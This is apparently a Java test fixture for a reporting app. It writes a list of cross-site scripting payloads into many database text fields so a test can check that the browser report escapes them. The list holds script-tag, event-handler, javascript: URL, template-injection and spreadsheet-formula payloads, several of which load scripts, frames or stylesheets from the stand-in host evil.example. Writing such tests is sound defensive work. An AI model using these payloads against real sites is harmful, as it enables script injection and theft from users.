package io.koe.report;

import java.util.List;
import java.util.stream.Collectors;

/**
 * What a customer, an agent or whoever names a category might send to run something in a reader's
 * browser.
 */
final class HostileText {
  private static final String RUN = "window.koeRan=1";

  static final List<String> PAYLOADS =
      List.of(
          "<script>" + RUN + "</script>",
          "</script><script>" + RUN + "</script>",
          "</ScRiPt ><sCrIpT>" + RUN + "//",
          "<!--<script>" + RUN + "//-->",
          "--><script>" + RUN + "</script>",
          "]]><script>" + RUN + "</script>",
          "</style><script>" + RUN + "</script>",
          "</title><script>" + RUN + "</script>",
          "</textarea><script>" + RUN + "</script>",
          "</noscript><script>" + RUN + "</script>",
          "<script src=//evil.example/x.js></script>",
          "<script type=module>import('//evil.example/x.js')</script>",
          "<img src=x onerror=" + RUN + ">",
          "<img src=//evil.example/x.png>",
          "<image href=//evil.example/x.png>",
          "<svg onload=" + RUN + ">",
          "\"><svg onload=" + RUN + ">",
          "'><svg/onload='" + RUN + "'>",
          "' onmouseover='" + RUN,
          "\" autofocus onfocus=\"" + RUN,
          "` onfocus=`" + RUN,
          "<a href=javascript:" + RUN + ">押す</a>",
          "javascript:" + RUN,
          "java\tscript:" + RUN,
          "data:text/html,<script>" + RUN + "</script>",
          "<iframe srcdoc='<script>parent." + RUN + "</script>'></iframe>",
          "<iframe src=//evil.example></iframe>",
          "<object data=//evil.example></object>",
          "<embed src=//evil.example>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<style>@import '//evil.example/x.css';</style>",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content='0;url=//evil.example'>",
          "<form action=//evil.example><button autofocus>押す</button></form>",
          "<details open ontoggle=" + RUN + ">",
          "<video><source onerror=" + RUN + "></video>",
          "<math><mtext></table><style><img src onerror=" + RUN + ">",
          "{{constructor.constructor('" + RUN + "')()}}${" + RUN + "}",
          "\u2028" + RUN + "\u2029//",
          "&lt;script&gt;" + RUN + "&lt;/script&gt;&#60;script&#62;",
          "{a|x}\n{b|" + RUN + "}",
          "=HYPERLINK(\"//evil.example\",\"押す\")",
          "[click](javascript:alert(1)) ![x](//evil.example/x.png)");

  private HostileText() {}

  /** Puts a text wherever the tables carry words that come from outside. */
  static void put(FixtureTables tables, String text) {
    putExpression(tables, literal(text));
  }

  /** Puts all payloads there, row by row another one, beginning with one of them. */
  static void putAll(FixtureTables tables, int first) {
    String all = PAYLOADS.stream().map(HostileText::literal).collect(Collectors.joining(", "));
    tables.run(
        "create or replace macro payload(n) as [%s][cast(1 + (n + %d) %% %d as bigint)]"
            .formatted(all, first, PAYLOADS.size()));
    putExpression(tables, "payload(rowid)");
  }

  private static String literal(String text) {
    return "'" + text.replace("'", "''") + "'";
  }

  private static void putExpression(FixtureTables tables, String sql) {
    tables.run("update topics set label = " + sql + ", terms = " + sql);
    tables.run("update topic_themes set label = " + sql);
    tables.run("update contact_drivers_weekly set label = " + sql);
    tables.run("update topic_quotes set quote = " + sql + ", service = " + sql);
    tables.run(
        "update topic_contexts set left_text = %s, keyword = %s, right_text = %s"
            .formatted(sql, sql, sql));
    tables.run("update alert_episodes set label = " + sql + ", candidate_type = " + sql);
    tables.run("update watch_daily set title = " + sql + ", rule_id = " + sql);
    tables.run("update restatements set reason = " + sql);
    tables.run("update data_checks set message = " + sql + ", checked_table = " + sql);
    tables.run("update release_impacts set title = " + sql + ", kind = " + sql);
    tables.run("update faq_gaps_weekly set title = " + sql + ", label = " + sql);
    tables.run("update office_comparison_weekly set office = " + sql);
    tables.run("update inquiries set platform = " + sql + " where platform = 'ios'");
    tables.run("update input_tables set table_name = " + sql + ", outputs = [" + sql + "]");
    tables.run("update runs set run_id = " + sql);
    for (String table : List.of("metrics_weekly", "contact_drivers_weekly")) {
      tables.run("update " + table + " set service = " + sql + " where service = 'shops'");
    }
  }
}
